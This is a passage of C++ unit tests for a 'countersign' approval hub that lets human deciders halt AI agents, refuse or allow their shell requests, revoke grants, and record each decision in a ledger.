TEST_F(HubHaltTest, AHaltIsAnsweredThoughOneOfTheAgentsDoesNotListen) {
    FakeRuntime hung;
    hung.hangs = true;
    const auto open = world.ids.next();
    ASSERT_TRUE(world.ask(shell_request(open, "rm"), hung));
    asked();
    std::optional<Result<Carried>> answer;
    world.hub.order(world.halt("dev"), [&](const Result<Carried>& carried) { answer = carried; });
    world.settle();
    EXPECT_THAT(world.agent.interrupted, ElementsAre("halted by alice, after 1")) << "the other is stopped at once";
    EXPECT_EQ(world.ledger.count("decision"), 2U) << "both are refused on disk";
    EXPECT_FALSE(answer) << "a moment for the turns to end";
    world.advance(limits::halt_answer_max - 1ms);
    EXPECT_FALSE(answer);
    world.advance(1ms);
    ASSERT_TRUE(answer);
    ASSERT_TRUE(*answer);
    EXPECT_EQ((*answer)->denied, 2U);
    EXPECT_EQ((*answer)->interrupted, 1U);
    EXPECT_EQ((*answer)->interrupting, 1U);
    EXPECT_THAT(hung.interrupted, IsEmpty());
    hung.listen();
    world.settle();
    EXPECT_THAT(hung.interrupted, ElementsAre("halted by alice, after 1")) << "its answer comes first";
    EXPECT_EQ(world.hub.pending(), 0U);
}

TEST_F(HubHaltTest, TheRefusalOfAHaltedAgentsCallReachesItBeforeItsAskReturns) {
    ASSERT_TRUE(world.order(world.halt("dev")));
    world.agent.hangs = true;
    bool returned = false;
    boost::asio::co_spawn(world.io, world.hub.asking().ask(shell_request(world.ids.next()), world.agent),
                          [&](const std::exception_ptr&, const Result<Ulid>&) { returned = true; });
    world.settle();
    EXPECT_FALSE(returned);
    world.agent.listen();
    world.settle();
    EXPECT_TRUE(returned);
    EXPECT_THAT(outcomes(), ElementsAre(Outcome::denied));
}

TEST_F(HubHaltTest, I13_HaltsOfUnknownNamesNeverSwitchTheBrakeOff) {
    auto local = world.halt("junk");
    local.principal = "terminal:1000";
    local.local_uid = 1000;
    for (std::size_t i = 0; i < limits::halts_of_unknown_max; ++i) {
        local.target = "junk" + std::to_string(i);
        ASSERT_TRUE(world.order(local));
    }
    local.target = "one more";
    const auto refused = world.order(local);
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().code, Errc::busy);
    EXPECT_EQ(refused.error().detail, "256 names that nothing here has are halted");
    local.target = "junk0";
    EXPECT_TRUE(world.order(local)) << "it stands already";

    asked();
    local.target = "dev";
    EXPECT_TRUE(world.order(local)) << "what is here can be stopped";
    for (auto i = limits::halts_of_unknown_max; i < limits::halts_of_unknown_in_chats_max; ++i) {
        ASSERT_TRUE(world.order(world.halt("chat" + std::to_string(i)))) << "people in chats have places of their own";
    }
    EXPECT_EQ(world.order(world.halt("one more")).error().code, Errc::busy);
}

TEST_F(HubHaltTest, I13_TheLastPlacesAreForPeopleInChats) {
    std::vector<Halt> halts;
    while (halts.size() < limits::halts_max - limits::halts_kept_for_chats) {
        halts.push_back({.who = {"a" + std::to_string(halts.size()), ""}, .by = "alice", .at = {}});
    }
    world.hub.remember_halts(halts);
    asked();
    auto local = world.halt("dev");
    local.local_uid = 1000;
    const auto refused = world.order(local);
    ASSERT_FALSE(refused);
    EXPECT_EQ(refused.error().detail, "900 agents and sessions are halted");
    EXPECT_TRUE(world.order(world.halt("dev")));
    EXPECT_TRUE(world.order(local)) << "it stands already";
}

TEST_F(HubHaltTest, I13_OnePastTheBoundOfHaltsIsRefused) {
    std::vector<Halt> halts;
    while (halts.size() < limits::halts_max - 1) {
        halts.push_back({.who = {"a" + std::to_string(halts.size()), ""}, .by = "alice", .at = {}});
    }
    world.hub.remember_halts(halts);
    EXPECT_EQ(world.order(world.halt("later")).error().code, Errc::busy) << "that would be two";
    EXPECT_EQ(world.ledger.text("refused", "why"), "busy");
    EXPECT_EQ(world.hub.halts().all().size(), limits::halts_max - 1) << "nothing is halted by half";
    asked();
    EXPECT_TRUE(world.order(world.halt("dev")));
    EXPECT_EQ(world.order(world.halt("one more")).error().code, Errc::busy);
}

TEST_F(HubHaltTest, I12_AHaltFromBeforeTheStartIsStillInForce) {
    for (const Asker& who : {Asker{"dev", ""}, Asker{"", "s1"}}) {
        World again;
        again.hub.remember_halts({{.who = who, .by = "bob", .at = {}}});
        EXPECT_FALSE(again.ask(shell_request(again.ids.next())));
        EXPECT_THAT(again.agent.forwarded.at(0).reason, StartsWith("halted by bob, so this was not run"));
        ASSERT_TRUE(again.order(again.resume(who.agent_id.empty() ? who.session_key : who.agent_id)));
        EXPECT_TRUE(again.ask(shell_request(again.ids.next())));
    }
}

TEST_F(HubHaltTest, I3_ADecisionBeforeTheHaltIsKept) {
    const auto id = asked();
    world.ledger.hold(true);
    Result<Receipt> decided;
    world.hub.submit(world.click(id, "allow", "bob"), [&](const Result<Receipt>& got) { decided = got; });
    world.settle();
    world.hub.order(world.halt("dev"), {});
    world.settle();
    world.ledger.hold(false);
    world.settle();
    world.settle();
    EXPECT_TRUE(decided);
    EXPECT_THAT(outcomes(), ElementsAre(Outcome::allowed));
    EXPECT_THAT(world.agent.interrupted, testing::SizeIs(1)) << "but its turn is ended";
}

TEST_F(HubHaltTest, OnlyADeciderMayRevokeAGrantAndItIsRecorded) {
    const auto id = asked();
    ASSERT_TRUE(world.decide(world.click(id, "session")));
    const auto grant = world.hub.grants().all().at(0).id;
    auto order = world.halt("");
    order.kind = Order::Kind::revoke;
    order.grant = grant;
    order.principal = "test:nobody";
    EXPECT_EQ(world.order(order).error().code, Errc::not_authorised);
    EXPECT_EQ(world.ledger.text("refused", "target"), grant.str());
    EXPECT_EQ(world.hub.grants().all().size(), 1U);
    order.principal = "test:bob";
    const auto carried = world.order(order);
    ASSERT_TRUE(carried);
    EXPECT_TRUE(carried->receipt);
    EXPECT_EQ(world.ledger.text("revoke", "grantId"), grant.str());
    EXPECT_EQ(world.ledger.text("revoke", "person"), "bob");
    EXPECT_TRUE(world.hub.grants().all().empty());
    asked();
    EXPECT_EQ(world.hub.pending(), 1U) << "the same call asks again";
    EXPECT_EQ(world.order(order).error().code, Errc::unknown_request);
}

TEST_F(HubHaltTest, I4_PeopleAreShownOnlyRequestsThatTheyMayDecideAndStrangersNone) {
    auto configuration = small_configuration();
    configuration.routes.front().deciders = {"alice", "bob"};
    configuration.routes.front().not_requester = true;
    World other{configuration};
    const auto mine = other.ids.next();
    ASSERT_TRUE(other.ask(shell_request(mine, "a")));
    auto asked_by_bob = shell_request(other.ids.next(), "b");
    asked_by_bob.requester = "bob";
    ASSERT_TRUE(other.ask(std::move(asked_by_bob)));
    ASSERT_TRUE(other.ask(question_request(other.ids.next())));
    EXPECT_EQ(other.hub.queries().open_requests_for("test:alice").size(), 3U);
    EXPECT_EQ(other.hub.queries().open_requests_for("test:bob").size(), 2U) << "not what runs for bob";
    EXPECT_THAT(other.hub.queries().open_requests_for("test:carol"), IsEmpty()) << "known, and no decider";
    EXPECT_THAT(other.hub.queries().open_requests_for("test:nobody"), IsEmpty());
    ASSERT_TRUE(other.decide(other.click(mine, "session")));
    EXPECT_EQ(other.hub.queries().grants_for("test:alice").size(), 1U);
    EXPECT_THAT(other.hub.queries().grants_for("test:carol"), IsEmpty());
    EXPECT_EQ(other.hub.queries().ended(mine)->decided_by, "alice");
    ASSERT_TRUE(other.order(other.halt("dev")));
    EXPECT_EQ(other.hub.queries().halts_for("test:bob").size(), 1U);
    EXPECT_THAT(other.hub.queries().halts_for("test:carol"), IsEmpty());
    EXPECT_THAT(other.hub.queries().halts_for("test:nobody"), IsEmpty());
}

}  // namespace
}  // namespace countersign
